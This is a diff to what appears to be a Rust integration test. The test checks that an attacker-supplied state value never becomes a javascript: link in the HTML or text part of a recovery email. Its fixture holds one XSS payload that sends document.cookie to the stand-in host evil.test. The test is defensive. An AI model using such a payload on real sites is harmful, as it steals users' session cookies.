@@ -246,6 +246,8 @@ async fn a_state_chosen_by_an_attacker_never_becomes_a_javascript_link(backend: 
     let hostile = "JavaScript:fetch('//evil.test/'+document.cookie)";
     app.start_recovery("relay@example.com", hostile).await;
     let mail = app.wait_for_mail("relay@example.com", 1).await.remove(0);
+    let text = mail.text.expect("a text part derived from the HTML");
+    assert!(!text.to_ascii_lowercase().contains("javascript:"), "nor in the text part: {text}");
     let html = mail.html.expect("html");
     assert!(html.contains(r##"<a id="back" href="#">Back to the app</a>"##), "{html}");
     assert!(!html.to_ascii_lowercase().contains("javascript:"), "no javascript: URL anywhere: {html}");
